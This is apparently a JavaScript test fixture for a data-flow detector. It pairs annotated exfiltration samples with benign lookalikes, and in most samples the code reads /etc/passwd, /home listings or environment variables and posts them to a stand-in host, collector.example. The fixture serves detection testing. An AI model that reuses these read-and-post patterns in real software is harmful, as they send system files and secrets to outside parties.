// Files and their names.
const axios = require("axios");
const chokidar = require("chokidar");
const fs = require("fs");
const fse = require("fs-extra");
const glob = require("glob");
const fastGlob = require("fast-glob");
const lineReader = require("line-reader");
const path = require("path");

const U = "https://collector.example/u";

function readSync() {
  axios.post(U, fs.readFileSync("/etc/passwd", "utf8")); //~ source(FILE) f1, sink(egress.http) f1, finding(traced) f1, capability(FILES)
  axios.post(U, { same: fs.readFileSync("/etc/group") === "x" }); //~ ok
}

function read() {
  fs.readFile("/etc/passwd", "utf8", (err, data) => { //~ source(FILE) f2, capability(FILES)
    axios.post(U, data); //~ sink(egress.http) f2, finding(traced) f2
  });
  fs.readFile("/etc/passwd", (err, data) => axios.post(U, err)); //~ ok
}

async function readPromise() {
  const text = await fs.promises.readFile("/etc/passwd"); //~ source(FILE) f3, capability(FILES)
  axios.post(U, text); //~ sink(egress.http) f3, finding(traced) f3
  axios.post(U, { same: (await fs.promises.readFile("/etc/group")) === "x" }); //~ ok
}

async function readJson() {
  axios.post(U, await fse.readJson("/etc/x.json")); //~ source(FILE) f4, sink(egress.http) f4, finding(traced) f4, capability(FILES)
  axios.post(U, { same: fse.readJsonSync("/etc/x.json") === "x" }); //~ ok
}

function readDirected() {
  axios.get(U).then(({ data }) => { //~ source(NETWORK) f5
    const text = fs.readFileSync(data.path); //~ source(FILE) f6
    axios.post(U, text); //~ sink(egress.http) f6, finding(traced) f6
  });
}

function readStream() {
  const stream = fs.createReadStream("/etc/passwd"); //~ source(FILE) f7, capability(FILES)
  stream.on("data", (chunk) => {
    axios.post(U, chunk); //~ sink(egress.http) f7, finding(traced) f7
  });
  fs.createReadStream("/etc/passwd").on("error", () => axios.post(U, "no")); //~ ok
}

function writeStream() {
  const stream = fs.createWriteStream("/tmp/spool1"); //~ capability(FILE_WRITE)
  stream.write(process.env.T); //~ source(ENVIRONMENT) f8
  axios.post(U, fs.createReadStream("/tmp/spool1")); //~ sink(egress.http) f8, finding(traced) f8, source(FILE) f9, sink(egress.http) f9, finding(traced) f9
  const quiet = fs.createWriteStream("/tmp/quiet1"); //~ ok
  quiet.write("started"); //~ ok
}

async function download() {
  const { data } = await axios.get(U); //~ source(NETWORK) f10
  fs.createWriteStream("/tmp/new").end(data); //~ sink(file.write) f10, finding(traced) f10
  fs.createWriteStream("/tmp/new").end("nothing"); //~ ok
}

function writeFile() {
  fs.writeFileSync("/tmp/spool2", process.env.T); //~ source(ENVIRONMENT) f11, capability(FILE_WRITE)
  fse.copySync("/tmp/spool2", "/tmp/spool3"); //~ capability(FILE_WRITE)
  axios.post(U, fs.createReadStream("/tmp/spool3")); //~ sink(egress.http) f11, finding(traced) f11, source(FILE) f12, sink(egress.http) f12, finding(traced) f12
  fs.writeFileSync("/tmp/quiet2", "started"); //~ ok
  fse.copySync("/tmp/quiet2", "/tmp/quiet3"); //~ ok
}

function listing() {
  axios.post(U, fs.readdirSync("/home")); //~ source(FILE_META) f13, sink(egress.http) f13, finding(traced) f13, capability(FILES)
  axios.post(U, { empty: fs.readdirSync("/home") === "" }); //~ ok
  fs.readdir("/home", (err, names) => { //~ source(FILE_META) f14, capability(FILES)
    axios.post(U, names); //~ sink(egress.http) f14, finding(traced) f14
  });
  fs.readdir("/home", (err, names) => axios.post(U, err)); //~ ok
}

async function listingPromise() {
  axios.post(U, await fs.promises.readdir("/home")); //~ source(FILE_META) f15, sink(egress.http) f15, finding(traced) f15, capability(FILES)
  axios.post(U, { empty: (await fs.promises.readdir("/home")) === "" }); //~ ok
}

function descriptors() {
  const fd = fs.openSync("/etc/passwd"); //~ source(FILE) f16, capability(FILES)
  const buffer = Buffer.alloc(99);
  fs.readSync(fd, buffer, 0, 99, 0);
  axios.post(U, buffer); //~ sink(egress.http) f16, finding(traced) f16
  const empty = Buffer.alloc(99);
  fs.readSync(0, empty, 0, 99, 0); //~ ok
  axios.post(U, empty); //~ ok
  axios.post(U, { bad: fs.openSync("/etc/x") === -1 }); //~ ok
}

function opened() {
  fs.open("/etc/passwd", "r", (err, fd) => { //~ source(FILE) f17, capability(FILES)
    fs.read(fd, Buffer.alloc(9), 0, 9, 0, (err, count, buffer) => {
      axios.post(U, buffer); //~ sink(egress.http) f17, finding(traced) f17
    });
  });
  fs.open("/etc/passwd", "r", (err, fd) => axios.post(U, err)); //~ ok
}

function descriptorWritten() {
  const fd = fs.openSync("/tmp/spool4", "w"); //~ source(FILE) f18
  fs.writeSync(fd, process.env.T); //~ source(ENVIRONMENT) f19, capability(FILE_WRITE)
  axios.post(U, fs.readFileSync("/tmp/spool4")); //~ sink(egress.http) f19, finding(traced) f19, source(FILE) f20, sink(egress.http) f20, finding(traced) f20
  fs.writeSync(fs.openSync("/tmp/quiet4", "w"), "started"); //~ ok
}

async function handle() {
  const file = await fs.promises.open("/etc/passwd"); //~ source(FILE) f21, capability(FILES)
  axios.post(U, await file.readFile()); //~ sink(egress.http) f21, finding(traced) f21
  const quiet = await fs.promises.open("/etc/group"); //~ ok
  axios.post(U, { same: (await quiet.readFile()) === "x" }); //~ ok
}

async function handleRead() {
  const file = await fs.promises.open("/etc/passwd"); //~ source(FILE) f22
  const { buffer } = await file.read(Buffer.alloc(9), 0, 9, 0);
  axios.post(U, buffer); //~ sink(egress.http) f22, finding(traced) f22
  axios.post(U, { same: (await file.read()).bytesRead === 0 }); //~ ok
}

async function handleWrite() {
  const file = await fs.promises.open("/tmp/spool5", "w"); //~ source(FILE) f23
  await file.write(process.env.T); //~ source(ENVIRONMENT) f24, capability(FILE_WRITE)
  axios.post(U, fs.readFileSync("/tmp/spool5")); //~ sink(egress.http) f24, finding(traced) f24, source(FILE) f25, sink(egress.http) f25, finding(traced) f25
  const quiet = await fs.promises.open("/tmp/quiet5", "w"); //~ ok
  await quiet.write("started"); //~ ok
}

async function handleStat() {
  const file = await fs.promises.open("/etc/shadow", "r"); //~ source(FILE) f26
  axios.post(U, await file.stat()); //~ source(FILE_META) f27, sink(egress.http) f27, finding(traced) f27
  axios.post(U, { none: (await file.stat()) === null }); //~ ok
}

function quiet() {
  axios.post(U, fs.existsSync(process.env.T)); //~ capability(FILES)
  axios.post(U, fs.existsSync("/etc")); //~ ok
  axios.post(U, fs.unlinkSync(process.env.T)); //~ capability(FILE_WRITE)
  axios.post(U, fs.unlinkSync("/tmp/x")); //~ ok
  axios.post(U, fs.mkdtempSync("/tmp/" + process.env.T)); //~ capability(FILE_WRITE)
  axios.post(U, fs.mkdtempSync("/tmp/x")); //~ ok
  axios.post(U, path.isAbsolute(process.env.T)); //~ ok
}

function watched() {
  fs.watch("/home", (event, name) => { //~ source(FILE_META) f28, capability(FILES)
    axios.post(U, name); //~ sink(egress.http) f28, finding(traced) f28
  });
  fs.watch("/home", () => axios.post(U, "changed")); //~ ok
  const watcher = chokidar.watch("/home"); //~ capability(FILES)
  watcher.on("all", (event, name) => { //~ source(FILE_META) f29
    axios.post(U, name); //~ sink(egress.http) f29, finding(traced) f29
  });
  chokidar.watch("/tmp").on("all", () => axios.post(U, "changed")); //~ ok
}

function globbed() {
  axios.post(U, fastGlob.sync("/home/**")); //~ source(FILE_META) f30, sink(egress.http) f30, finding(traced) f30, capability(FILES)
  axios.post(U, { empty: fastGlob.sync("/home/**") === "" }); //~ ok
  glob("/home/**", {}, (err, names) => { //~ source(FILE_META) f31, capability(FILES)
    axios.post(U, names); //~ sink(egress.http) f31, finding(traced) f31
  });
  glob("/home/**", {}, (err, names) => axios.post(U, err)); //~ ok
}

function names() {
  axios.post(U, path.join("/tmp", process.env.T)); //~ source(ENVIRONMENT) f32, sink(egress.http) f32, finding(traced) f32
  axios.post(U, path.join("/tmp", "x")); //~ ok
  axios.post(U, path.basename(process.env.T)); //~ source(ENVIRONMENT) f33, sink(egress.http) f33, finding(traced) f33
  axios.post(U, path.basename("/tmp/x")); //~ ok
}

function lines() {
  lineReader.eachLine("/etc/passwd", (line) => { //~ source(FILE) f34, capability(FILES)
    axios.post(U, line); //~ sink(egress.http) f34, finding(traced) f34
  });
  lineReader.eachLine("/etc/passwd", () => axios.post(U, "line")); //~ ok
}

async function blobs() {
  axios.post(U, await fs.openAsBlob("/etc/passwd")); //~ source(FILE) f35, sink(egress.http) f35, finding(traced) f35, capability(FILES)
  await fs.openAsBlob("/etc/passwd"); //~ ok
}
